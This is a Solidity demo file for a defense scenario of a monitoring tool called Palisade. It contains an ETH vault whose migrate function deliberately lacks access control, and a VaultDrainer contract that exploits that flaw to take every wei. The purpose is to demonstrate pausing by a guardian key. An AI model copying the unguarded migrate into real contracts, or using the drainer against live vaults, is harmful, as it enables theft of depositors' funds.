// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

// The defense scenario (`palisade demo --scenario defense`): an ETH vault behind a pausable guard,
// and the contract an attacker uses to drain it. The vault carries its flaw on purpose and says so.

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Pausable} from "@openzeppelin/contracts/utils/Pausable.sol";

/// A share vault for ETH. Depositors get one share per wei; `redeem` burns shares and pays them out.
/// A guardian (an operations key, not the owner) may pause it: that is what Palisade's responder
/// signs with.
///
/// THE FLAW: `migrate` was meant for the owner, to move funds to a new vault, but it has no access
/// control and burns no shares. Anyone can call it and take every wei while the shares stay.
contract GuardedVault is Ownable, Pausable {
    address public guardian;
    uint256 public totalShares;
    mapping(address => uint256) public sharesOf;

    event Deposit(address indexed who, uint256 amount);
    event Redeem(address indexed who, uint256 amount);
    event Migrated(address indexed to, uint256 amount);

    constructor(address guardian_) Ownable(msg.sender) {
        guardian = guardian_;
    }

    function pause() external {
        require(msg.sender == guardian || msg.sender == owner(), "not guardian");
        _pause();
    }

    function unpause() external onlyOwner {
        _unpause();
    }

    function deposit() external payable whenNotPaused {
        sharesOf[msg.sender] += msg.value;
        totalShares += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function redeem(uint256 shares) external whenNotPaused {
        sharesOf[msg.sender] -= shares;
        totalShares -= shares;
        (bool ok,) = msg.sender.call{value: shares}("");
        require(ok, "send failed");
        emit Redeem(msg.sender, shares);
    }

    /// Assets the vault holds.
    function totalAssets() external view returns (uint256) {
        return address(this).balance;
    }

    /// Wei per share, scaled by 1e18 (1e18 while the vault is sound).
    function pricePerShare() external view returns (uint256) {
        return totalShares == 0 ? 1e18 : address(this).balance * 1e18 / totalShares;
    }

    /// Assets `shares` redeem for (ERC-4626's view; the example share-price assertion reads it).
    function convertToAssets(uint256 shares) external view returns (uint256) {
        return totalShares == 0 ? shares : shares * address(this).balance / totalShares;
    }

    // FLAW: no onlyOwner, no share burn.
    function migrate(address payable to) external whenNotPaused {
        uint256 amount = address(this).balance;
        (bool ok,) = to.call{value: amount}("");
        require(ok, "send failed");
        emit Migrated(to, amount);
    }
}

/// The attacker's contract: the vault is called from inside it, so only a simulation of the call
/// tree (not the top-level calldata) shows what it does.
contract VaultDrainer {
    address payable private immutable boss;

    constructor() {
        boss = payable(msg.sender);
    }

    function run(GuardedVault v) external {
        require(msg.sender == boss, "not boss");
        v.migrate(payable(address(this)));
        (bool ok,) = boss.call{value: address(this).balance}("");
        require(ok, "send failed");
    }

    receive() external payable {}
}
